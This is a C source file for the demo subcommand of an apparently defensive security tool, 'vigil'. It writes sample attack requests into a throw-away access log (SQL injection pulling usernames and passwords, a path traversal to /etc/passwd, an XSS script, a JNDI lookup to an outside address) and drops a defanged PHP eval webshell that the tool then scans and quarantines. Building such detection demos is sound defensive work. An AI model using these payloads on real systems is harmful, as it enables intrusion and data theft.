/* `vigil demo`: a newcomer's first taste. Builds a throw-away workspace (a tiny web
 * root and an access log holding a few attacks), runs what vigil can do on it and
 * prints what it found. Grows as capabilities land. */
#include "cmd/cmd.h"
#include "core/buf.h"
#include "core/err.h"
#include "core/store.h"
#include "protect/quarantine.h"
#include "protect/webshell.h"

#include <ftw.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

extern const struct cmd_ops cmd_demo;

static const char demo_index[] =
    "<!doctype html>\n<html><head><title>Demo Agency</title></head>\n"
    "<body><h1>Welcome to the Demo Agency</h1><p>Public information.</p></body></html>\n";

/* A few ordinary visits and a few attacks, in nginx combined format. */
static const char demo_access_log[] =
    "198.51.100.7 - - [24/Nov/2026:09:00:01 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" "
    "\"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\"\n"
    "198.51.100.7 - - [24/Nov/2026:09:00:02 +0000] \"GET /search?q=select+a+union+rep HTTP/1.1\" "
    "200 1024 \"-\" \"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\"\n"
    "203.0.113.66 - - [24/Nov/2026:09:01:10 +0000] \"GET /item.php?id=1%27%20UNION%20SELECT%20"
    "username,password%20FROM%20users--%20 HTTP/1.1\" 200 88 \"-\" \"sqlmap/1.7.2#stable "
    "(https://sqlmap.org)\"\n"
    "203.0.113.66 - - [24/Nov/2026:09:01:12 +0000] \"GET /../../etc/passwd HTTP/1.1\" 400 0 "
    "\"-\" \"curl/8.0\"\n"
    "203.0.113.66 - - [24/Nov/2026:09:01:15 +0000] \"GET /comment?text=%3Cscript%3Ealert(1)%3C/"
    "script%3E HTTP/1.1\" 200 50 \"-\" \"Mozilla/5.0\"\n"
    "192.0.2.99 - - [24/Nov/2026:09:02:00 +0000] \"GET /?x=${jndi:ldap://192.0.2.99/a} HTTP/1.1\" "
    "404 0 \"-\" \"Mozilla/5.0\"\n";

static int
write_file(const char *dir, const char *name, const char *text)
{
	char path[4096];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	f = fopen(path, "w");
	if (!f)
		return VG_ERR_IO;
	fputs(text, f);
	return fclose(f) == 0 ? VG_OK : VG_ERR_IO;
}

/* A China Chopper style one-liner as an attacker would drop it, defanged: the
 * stray word inside the brackets is a PHP syntax error, so it can never run. */
static const char demo_webshell[] = "<?php @eval($_POST[DEFANGED 'pass']);?>\n";

/* Drops the defanged webshell into the web root, scans the root and quarantines
 * what is malicious, the way `vigil scan --quarantine` does. */
static void
demo_webshell_step(struct vg_ctx *ctx, const char *workspace)
{
	struct webshell_scanner *ws = NULL;
	struct webshell_finding f;
	char rules[4096], err[512], path[4096], vault[4096], id[QUARANTINE_ID_MAX];

	if (webshell_find_rules(rules, sizeof(rules)) != VG_OK ||
	    webshell_scanner_new(rules, &ctx->log, &ws, err, sizeof(err)) != VG_OK) {
		printf("== webshell: skipped (no rules found; set VIGIL_WEBSHELL_RULES)\n");
		return;
	}
	snprintf(path, sizeof(path), "%s/www/upload", workspace);
	mkdir(path, 0755);
	snprintf(path, sizeof(path), "%s/www", workspace);
	if (write_file(path, "upload/avatar.php", demo_webshell) != VG_OK)
		goto out;
	snprintf(path, sizeof(path), "%s/www/upload/avatar.php", workspace);
	printf("== webshell: an attacker drops %s\n", path);
	if (webshell_scan_file(ws, path, &f) != VG_OK)
		goto out;
	printf("   vigil scan: %s, score %d, families %s\n", f.level, f.score, f.families);
	snprintf(vault, sizeof(vault), "%s/quarantine", workspace);
	if (f.score >= WEBSHELL_MALICIOUS &&
	    quarantine_file(vault, path, &f, id, err, sizeof(err)) == VG_OK)
		printf("   quarantined as %s into %s (mode 000); %s is gone\n", id, vault, path);
out:
	webshell_scanner_free(ws);
}

static int
rm_entry(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	(void)ftw;
	return remove(p);
}

static int
run(struct vg_ctx *ctx, int argc, char **argv)
{
	char workspace[] = "/tmp/vigil-demo-XXXXXX";
	char path[4096], err[512];
	struct vg_store *st = NULL;
	json_t *stats = NULL;
	bool keep = false;
	int version = 0, ret = VG_EXIT_RUNTIME, r;

	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--keep") == 0)
			keep = true;
		else
			return cmd_usage_error(&cmd_demo, "unknown option '%s'", argv[i]);
	}
	if (!mkdtemp(workspace)) {
		fprintf(stderr, "vigil demo: cannot create workspace: %s\n", strerror(errno));
		return VG_EXIT_RUNTIME;
	}
	snprintf(path, sizeof(path), "%s/www", workspace);
	if (mkdir(path, 0755) != 0 || write_file(path, "index.html", demo_index) != VG_OK ||
	    write_file(workspace, "access.log", demo_access_log) != VG_OK) {
		fprintf(stderr, "vigil demo: cannot populate %s: %s\n", workspace, strerror(errno));
		goto out;
	}
	printf("== vigil demo: workspace %s\n", workspace);
	printf("   web root   %s/www (1 page)\n", workspace);
	printf("   access log %s/access.log (6 requests, 4 of them attacks)\n", workspace);

	snprintf(path, sizeof(path), "%s/vigil.db", workspace);
	r = store_open("sqlite", path, &ctx->log, &st, err, sizeof(err));
	if (r != VG_OK) {
		fprintf(stderr, "vigil demo: %s\n", err);
		goto out;
	}
	if (store_schema_version(st, &version) != VG_OK || store_stats(st, &stats) != VG_OK) {
		fprintf(stderr, "vigil demo: %s\n", store_errmsg(st));
		goto out;
	}
	store_audit(st, "demo", "demo.start", workspace);
	printf("== store: %s created at schema version %d (%zu tables)\n", path, version,
	    json_object_size(stats));
	demo_webshell_step(ctx, workspace);
	ret = VG_EXIT_OK;
out:
	json_decref(stats);
	store_close(st);
	if (keep) {
		printf("== workspace kept: %s\n", workspace);
	} else {
		char cmd_path[4200];
		/* Only files the demo itself created are removed. */
		const char *names[] = { "www/index.html", "www/upload/avatar.php", "www/upload",
			"access.log", "vigil.db", "vigil.db-wal", "vigil.db-shm", "www" };
		snprintf(cmd_path, sizeof(cmd_path), "%s/quarantine", workspace);
		nftw(cmd_path, rm_entry, 8, FTW_DEPTH | FTW_PHYS);	/* the demo's own vault */
		for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
			snprintf(cmd_path, sizeof(cmd_path), "%s/%s", workspace, names[i]);
			remove(cmd_path);
		}
		rmdir(workspace);
	}
	return ret;
}

const struct cmd_ops cmd_demo = {
	.name = "demo",
	.summary = "run vigil on a small bundled example and show what it finds",
	.help =
	    "usage: vigil demo [--keep]\n"
	    "\n"
	    "Builds a throw-away workspace under /tmp (a tiny web root and an access log\n"
	    "with a few attacks), runs vigil's capabilities on it and prints what they\n"
	    "found. --keep leaves the workspace in place to explore.\n",
	.run = run,
};
